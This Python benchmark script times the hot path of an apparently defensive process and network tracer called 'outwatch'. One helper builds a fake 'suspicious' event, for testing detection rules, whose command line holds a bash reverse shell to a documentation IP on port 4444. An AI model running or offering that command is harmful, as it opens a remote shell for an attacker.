"""Per-event cost of each userspace step of the tracer's hot path, so regressions show.

    .venv/bin/python bench/micro.py      # prints the table; bench/run.py puts it in docs/benchmarks.md

Inputs are real where they can be: the process table is seeded from this machine's /proc and the
events are built for this process; the "suspicious" event is the same event with the executable,
arguments and destination a rule pack is meant to catch.
"""

from __future__ import annotations

import copy
import os
import socket
import timeit
from collections.abc import Callable
from dataclasses import dataclass

from outwatch.community_id import community_id
from outwatch.encode import encode
from outwatch.event import EventBuilder, rfc3339_ns
from outwatch.kernel.records import CONNECT, EV_CONNECT, Header, decode
from outwatch.pretty import format_event
from outwatch.proc.identity import Clock
from outwatch.proc.table import Proc, ProcessTable
from outwatch.rules import load_rules

REPEAT = 3
TARGET_S = 0.2  # each timing runs about this long


@dataclass(slots=True)
class MicroResult:
    name: str
    us_per_op: float  # best of REPEAT
    note: str = ""


def _time(fn: Callable[[], object], per_call: int = 1) -> float:
    """µs per operation: best of REPEAT runs of about TARGET_S each."""
    timer = timeit.Timer(fn)
    number, took = timer.autorange()
    number = max(1, int(number * TARGET_S / max(took, 1e-9)))
    best = min(timer.repeat(REPEAT, number))
    return best / number / per_call * 1e6


def raw_connect(h: Header, daddr: str, dport: int, saddr: str, sport: int) -> bytes:
    """A struct ow_connect as the kernel sends it (a successful TCP v4 connect): the layout of
    records.CONNECT, field by field."""
    def ip(a: str) -> bytes:
        return socket.inet_pton(socket.AF_INET, a).ljust(16, b"\0")

    return CONNECT.pack(h.ts_ns, EV_CONNECT, h.pid, h.tid, h.ppid, h.start_ns, h.exec_ns, h.cgroup_id, h.uid,
                        h.gid, h.comm.ljust(16, b"\0"), ip(daddr), ip(saddr), dport, sport, socket.AF_INET,
                        6, socket.SOCK_STREAM, 0, 0, 1, 1)


def header(proc: Proc) -> Header:
    return Header(ts_ns=Clock.now_boot_ns(), pid=proc.pid, tid=proc.pid, ppid=proc.ppid, start_ns=proc.start_ns,
                  exec_ns=0, cgroup_id=0, uid=proc.uid if proc.uid is not None else 0, gid=0,
                  comm=proc.comm.encode())


def _suspicious(event: dict) -> dict:
    """The same event as a dropped payload would make: /tmp executable, reverse-shell args, port 4444."""
    bad = copy.deepcopy(event)
    bad["process"].update(executable="/tmp/.x/beacon", name="beacon",
                          args=["/tmp/.x/beacon", "-c", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"],
                          command_line="/tmp/.x/beacon -c bash -i >& /dev/tcp/203.0.113.7/4444 0>&1")
    bad["destination"] = {"ip": "203.0.113.7", "port": 4444}
    return bad


def run() -> list[MicroResult]:
    results: list[MicroResult] = []
    table = ProcessTable()
    table.seed()
    headers = [header(p) for p in table.procs.values()]

    def lookups() -> None:
        for h in headers:
            table.get(h)

    results.append(MicroResult("process table get() (known pid)", _time(lookups, len(headers)),
                               f"{len(headers)} pids seeded from /proc"))

    me = table.procs[os.getpid()]
    h = header(me)
    raw = raw_connect(h, "203.0.113.7", 443, "10.0.2.15", 49152)
    results.append(MicroResult("decode a raw connect record", _time(lambda: decode(raw))))

    builder = EventBuilder(table, Clock())
    rec = decode(raw)
    event = builder.connect_event(rec, me)
    ancestors = len(event.get("outwatch", {}).get("process", {}).get("ancestors", []))
    results.append(MicroResult("EventBuilder.connect_event (process part cached)",
                               _time(lambda: builder.connect_event(rec, me)), f"{ancestors} ancestors"))

    ruleset = load_rules()
    n_rules = len(ruleset.rules)
    bad = _suspicious(event)
    ruleset.score(event)
    ruleset.score(bad)
    results.append(MicroResult("rules: score() benign event", _time(lambda: ruleset.score(event)),
                               f"{n_rules} rules, score {event['outwatch'].get('score')}"))
    results.append(MicroResult("rules: score() suspicious event", _time(lambda: ruleset.score(bad)),
                               f"{n_rules} rules, score {bad['outwatch'].get('score')}, "
                               f"{len(bad['outwatch'].get('reasons', []))} reasons"))

    image, bad_image = object(), object()
    results.append(MicroResult("rules: score() benign, same image and destination again",
                               _time(lambda: ruleset.score(event, image)),
                               "what the tracer pays for a repeat connect (volatile rules only)"))
    results.append(MicroResult("rules: score() suspicious, same image and destination again",
                               _time(lambda: ruleset.score(bad, bad_image))))

    results.append(MicroResult("  of which rfc3339_ns (@timestamp)", _time(lambda: rfc3339_ns(h.ts_ns))))
    results.append(MicroResult("  of which community_id", _time(
        lambda: community_id("10.0.2.15", 49152, "203.0.113.7", 443, 6))))

    line = encode(event)
    results.append(MicroResult("encode (orjson, line cap)", _time(lambda: encode(event)), f"{len(line)} bytes"))
    results.append(MicroResult("pretty format_event", _time(lambda: format_event(event))))
    return results


def main() -> None:
    for r in run():
        print(f"{r.name:<52} {r.us_per_op:>9.2f} µs  {r.note}")


if __name__ == "__main__":
    main()
